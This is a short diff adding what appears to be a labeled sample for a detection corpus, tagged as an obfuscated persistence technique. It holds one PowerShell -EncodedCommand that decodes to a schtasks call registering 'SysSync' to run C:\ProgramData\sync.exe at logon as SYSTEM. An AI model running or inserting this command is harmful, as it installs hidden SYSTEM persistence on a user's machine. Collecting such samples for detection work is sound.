@@ -1,0 +1,4 @@
+# description: Creates a scheduled task through a base64 -EncodedCommand.
+# family: persistence
+# obfuscated: yes
+powershell.exe -NoProfile -EncodedCommand cwBjAGgAdABhAHMAawBzACAALwBjAHIAZQBhAHQAZQAgAC8AdABuACAAUwB5AHMAUwB5AG4AYwAgAC8AdAByACAAQwA6AFwAUAByAG8AZwByAGEAbQBEAGEAdABhAFwAcwB5AG4AYwAuAGUAeABlACAALwBzAGMAIABvAG4AbABvAGcAbwBuACAALwByAHUAIABTAFkAUwBUAEUATQAgAC8AZgA=
